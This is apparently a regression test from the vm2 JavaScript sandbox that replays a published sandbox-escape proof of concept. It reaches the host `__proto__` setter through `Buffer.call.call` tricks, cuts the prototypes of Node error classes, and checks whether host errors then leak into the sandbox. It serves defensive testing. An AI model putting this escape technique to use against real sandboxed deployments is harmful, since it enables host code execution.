// Source: vm2 test/ghsa/GHSA-v6mx-mf47-r5wg/repro.js (fixed after vm2 3.11.2, by 3.12.2): the host `__proto__` setter,
// reached with Buffer.call.call({}.__lookupSetter__, Buffer, '__proto__'), severed the prototype of
// Node's internal NodeError class; the next host error of that class then crossed into the sandbox
// unwrapped, and `e.constructor.constructor` was the host Function.
// Tried: the canonical PoC on the errors WebAssembly.compileStreaming() and new URL('') reject/throw
// with, one and two prototype levels up.
'use strict';
const out = {};
let getProto, setProto;
try {
  getProto = Buffer.call.call({}.__lookupGetter__, Buffer, '__proto__');
  setProto = Buffer.call.call({}.__lookupSetter__, Buffer, '__proto__');
} catch (e) { out.extract = String(e.message); }
out.types = [typeof getProto, typeof setProto];
// vm2 3.12 refuses the host `__proto__` getter and setter this PoC starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf / Object.setPrototypeOf, answered with vm2's mapped prototypes.
if (typeof getProto !== 'function') getProto = { call: (x) => Object.getPrototypeOf(x) };
if (typeof setProto !== 'function') setProto = { call: (x, v) => Object.setPrototypeOf(x, v) };
const sources = { compileStreaming: async () => { try { await WebAssembly.compileStreaming(); } catch (e) { return e; } }, url: async () => { try { new URL(''); } catch (e) { return e; } }, alloc: async () => { try { Buffer.alloc(-1); } catch (e) { return e; } } };
for (const [name, make] of Object.entries(sources)) {
  for (const depth of [1, 2]) {
    try {
      let proto = await make();
      for (let i = 0; i < depth; i++) proto = getProto.call(proto);
      setProto.call(proto, null);
      out[name + depth] = 'severed';
    } catch (e) { out[name + depth] = String(e && e.message).slice(0, 50); }
    const next = await make();
    __wr.use(next, name + ' error after severing ' + depth);
  }
}
return out;
